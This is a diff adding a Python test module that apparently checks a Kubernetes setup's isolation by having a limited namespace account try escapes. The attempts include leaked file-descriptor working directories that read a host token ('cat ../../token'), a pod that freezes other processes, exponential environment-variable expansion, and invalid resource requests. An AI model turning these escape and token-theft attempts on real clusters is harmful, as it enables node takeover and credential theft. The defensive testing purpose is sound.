@@ -1,0 +1,101 @@
+"""attacks.py: what a pod, an account with `edit` in one namespace (Pod Security baseline) and a person try against the rest, each
+with the credentials it would have. A function returns the words of what it got, or nothing."""
+
+import json
+import os
+
+from harness import run, wait_for
+from pods import container, pod
+from test_escape import LONG_PATH, SPY
+
+NAMESPACE = "guest"
+
+
+class Editor:
+    """The account of a namespace whose pods may be root, but nothing that reaches the node."""
+
+    def __init__(self, m, top):
+        self.m, self.file, self.tries = m, os.path.join(top, "editor.kubeconfig"), 0
+        m.kubectl("create", "namespace", NAMESPACE)
+        m.kubectl("label", "namespace", NAMESPACE, "pod-security.kubernetes.io/enforce=baseline")
+        m.kubectl("create", "serviceaccount", "editor", "-n", NAMESPACE)
+        m.kubectl("create", "rolebinding", "editor", "-n", NAMESPACE, "--clusterrole=edit",
+                  f"--serviceaccount={NAMESPACE}:editor")
+        token = m.kubectl("create", "token", "editor", "-n", NAMESPACE).stdout.strip()
+        with open(m.kubeconfig) as f, open(self.file, "w") as out:
+            with open(os.path.join(m.data, "token")) as own:
+                out.write(f.read().replace(own.read().strip(), token).replace("namespace: default", f"namespace: {NAMESPACE}"))
+
+    def kubectl(self, *argv, input=None, ok=True):
+        return run(["kubectl", "--kubeconfig", self.file, *argv], input=input, ok=ok)
+
+    def create(self, made, ok=True):
+        made.get("spec", {}).pop("nodeName", None)
+        return self.kubectl("create", "-f", "-", input=json.dumps(made), ok=ok)
+
+    def said(self, name):
+        return self.kubectl("logs", name, ok=False).stdout
+
+    def begin(self):
+        """A pod that watches what joins it, and one that stops it."""
+        small = {"requests": {"cpu": "50m"}, "limits": {"cpu": "200m", "memory": "256Mi"}}
+        stop = ("import os, signal, time\nwhile True:\n  for pid in os.listdir('/proc'):\n"
+                "    if pid.isdigit() and int(pid) not in (1, os.getpid()): os.kill(int(pid), signal.SIGSTOP)\n")
+        path = [{"name": "PATH", "value": LONG_PATH}]
+        self.create(pod("spy", container(["/usr/bin/python3", "-c", SPY, self.m.data.lstrip("/") + "/token"], env=path,
+                                         resources=small), terminationGracePeriodSeconds=0))
+        self.create(pod("stops", container(["/usr/bin/python3", "-c", stop], env=path, resources=small),
+                        terminationGracePeriodSeconds=0))
+        wait_for(lambda: "up" in self.said("spy"), "the spy", 120)
+
+    def look(self):
+        self.kubectl("exec", "spy", "--", "true", ok=False)
+        got = [line for line in self.said("spy").splitlines() if line.startswith("reached")]
+        return f"exec: {got[0]}" if got else None
+
+    def lead_out(self):
+        name = f"doors{self.tries}"
+        doors = [container("cat ../../token", name=f"d{n}", workingDir=f"/proc/self/fd/{n}") for n in range(3, 20)]
+        self.create(pod(name, *doors))
+
+        def over():
+            found = json.loads(self.kubectl("get", "pod", name, "-o", "json").stdout)["status"]
+            return found.get("phase") in ("Failed", "Succeeded") and found
+        ends = [c["state"]["terminated"] for c in wait_for(over, "the doors to shut", 120)["containerStatuses"]]
+        self.kubectl("delete", "pod", name, "--wait=false")
+        got = [end for end in ends if end["exitCode"] != 128]
+        return f"workingDir: {got[0]}" if got else None
+
+    def grow(self):
+        env = [{"name": "L0", "value": "x" * 4096}] + [{"name": f"L{n + 1}", "value": f"$(L{n})" * 4} for n in range(12)]
+        self.kubectl("delete", "pod", f"grows{self.tries - 1}", "--ignore-not-found", "--wait=false")
+        self.create(pod(f"grows{self.tries}", container(["true"], env=env), restart="Always"))
+
+    def overask(self):
+        """What is stored of what could never be."""
+        bad = pod("negative", container("true"), resources={"requests": {"cpu": "-3"}})
+        job = {"apiVersion": "torchrun.ai/v1alpha1", "kind": "TorchrunJob", "metadata": {"name": "large"},
+               "spec": {"numNodes": 100000}}
+        for made in bad, job:
+            if self.create(made, ok=False).returncode == 0:
+                return f"stored: {made['kind']} {made['metadata']['name']}"
+        return None
+
+    def attack(self):
+        self.tries += 1
+        self.grow()
+        for what in self.look, self.lead_out, self.overask:
+            got = what()
+            if got:
+                return got
+        return None
+
+
+def person_leads_out(person, number):
+    """Of a person: the same ways with her own id."""
+    name = f"door{number}"
+    person.create(pod(name, *[container("cat ../../token", name=f"d{n}", workingDir=f"/proc/self/fd/{n}") for n in (3, 4, 5, 6)]))
+    found = wait_for(lambda: person.phase(name), "the door to shut", 120)
+    person.kubectl("delete", "pod", name, "--wait=false")
+    got = [c for c in found["containerStatuses"] if c["state"]["terminated"]["exitCode"] != 128]
+    return f"workingDir: {got[0]}" if got else None
